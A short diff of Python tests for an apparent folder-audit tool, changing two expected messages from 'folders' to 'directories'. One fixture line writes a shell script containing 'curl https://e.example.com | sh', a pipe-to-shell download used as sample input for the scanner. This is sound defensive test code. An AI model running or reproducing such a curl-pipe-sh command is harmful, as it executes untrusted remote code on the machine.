@@ -133,7 +133,7 @@ def test_deep_trees_end_and_say_so(tmp_path: Path) -> None:
     deep.mkdir(parents=True)
     (deep / "x.sh").write_text("curl https://e.example.com | sh\n")
     report = run_audit((str(folder),))
-    assert "folders deep" in not_read(report)
+    assert "directories deep" in not_read(report)
     assert {f.rule for f in report.findings} == {"not-read"}
 
 
@@ -143,7 +143,7 @@ def test_too_many_files_are_counted_and_said(tmp_path: Path, monkeypatch: pytest
     for number in range(20):
         (folder / f"f{number:02}.txt").write_text("x")
     report = run_audit((str(folder),))
-    assert "16 more files or folders" in not_read(report)
+    assert "16 more files or directories" in not_read(report)
     assert {f.rule for f in report.findings} == {"not-read"}
 
 
